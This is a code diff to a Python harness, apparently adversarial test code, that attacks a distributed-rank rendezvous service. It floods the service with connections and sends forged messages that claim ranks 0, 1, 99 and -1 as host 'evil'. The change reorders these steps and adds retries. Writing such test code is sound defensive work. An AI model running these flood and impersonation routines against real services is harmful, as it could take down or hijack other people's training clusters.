@@ -29,8 +29,9 @@ NOBODY = 65534
 READY, CONNECTED = "ready", "connected"
 _LISTENS = "0A"
 _ROUND_S = 0.01
-#: Ranks greet at once; what does not is something else.
-_HELLO_S = 0.3
+#: How long the flood waits for the claims: in it, their connections would be closed as the oldest.
+_CLAIMS_FIRST_S = 0.3
+_LINK_S = 1.0
 _TIMEOUT = timedelta(seconds=2)
 
 
@@ -80,7 +81,7 @@ def flood(marker: str, address: str, port: int, done: Counter[str]) -> None:
     links = []
     for number in range(60):
         with suppress(OSError):
-            link = socket.create_connection((address, port), 1.0)
+            link = socket.create_connection((address, port), _LINK_S)
             links.append(link)
             done["connections"] += 1
             link.sendall(sayings[number % len(sayings)])
@@ -90,18 +91,35 @@ def flood(marker: str, address: str, port: int, done: Counter[str]) -> None:
 
 def claim_ranks(marker: str, address: str, port: int, done: Counter[str]) -> None:
     """Speak the ranks' own protocol without their secret: say nothing, prove falsely, and go on as a rank."""
+    for saying in _claims():
+        while not _is_heard(saying, address, port):
+            time.sleep(_ROUND_S)
+        done["claims"] += 1
+
+
+def _is_heard(saying: bytes, address: str, port: int) -> bool:
+    """Whether a rank greets and takes this. A busy one may not greet at once; something else never does.
+
+    Raises ConnectionRefusedError where nothing listens any more.
+    """
+    try:
+        with socket.create_connection((address, port), _LINK_S) as link:
+            if link.recv(36, socket.MSG_WAITALL).startswith(b"stk1"):
+                link.sendall(saying)
+                return True
+    except (TimeoutError, ConnectionResetError):
+        pass
+    return False
+
+
+def _claims() -> Iterator[bytes]:
     for rank in (1, 0, 99, -1):
         arrival = json.dumps({"rank": rank, "size": 2, "host": "evil", "route": "127.0.0.1"})
         claim = {"do": "add", "key": f"claimed/{rank}", "amount": 1}
         join = {"do": "set", "key": f"joined/{rank}", "value": arrival}
-        sayings = b"".join(_message(each) for each in (claim, join))
-        for saying in (b"", os.urandom(64), os.urandom(64) + sayings):
-            with socket.create_connection((address, port), 1.0) as link:
-                link.settimeout(_HELLO_S)
-                if not link.recv(36, socket.MSG_WAITALL).startswith(b"stk1"):
-                    return
-                link.sendall(saying)
-                done["claims"] += 1
+        yield b""
+        yield os.urandom(64)
+        yield os.urandom(64) + _message(claim) + _message(join)
 
 
 def _message(content: object) -> bytes:
@@ -115,17 +133,26 @@ def attack(marker: str, places: Callable[[], Iterator[tuple[str, int]]], done: C
     known: set[tuple[str, int]] = set()
     while True:
         for address, port in places():
-            if (address, port) not in known:
-                # Before the flood, in which these connections would be closed as the oldest.
-                _quietly(claim_ranks, marker, address, port, done)
-            before = done["connections"]
-            _quietly(flood, marker, address, port, done)
-            if done["connections"] > before and (address, port) not in known:
+            arguments = (marker, address, port, done)
+            if (address, port) not in known and _is_open(address, port):
                 known.add((address, port))
-                arguments = (join_as_rank, marker, address, port, done)
-                threading.Thread(target=_quietly, args=arguments, daemon=True).start()
+                _in_background(claim_ranks, *arguments).join(_CLAIMS_FIRST_S)
+                _in_background(join_as_rank, *arguments)
                 print(CONNECTED, flush=True)
+            flood(*arguments)
         time.sleep(_ROUND_S)
+
+
+def _is_open(address: str, port: int) -> bool:
+    with suppress(OSError), socket.create_connection((address, port), _LINK_S):
+        return True
+    return False
+
+
+def _in_background(function: Callable[..., None], *arguments: Any) -> threading.Thread:
+    thread = threading.Thread(target=_quietly, args=(function, *arguments), daemon=True)
+    thread.start()
+    return thread
 
 
 def _quietly(function: Callable[..., None], *arguments: Any) -> None:
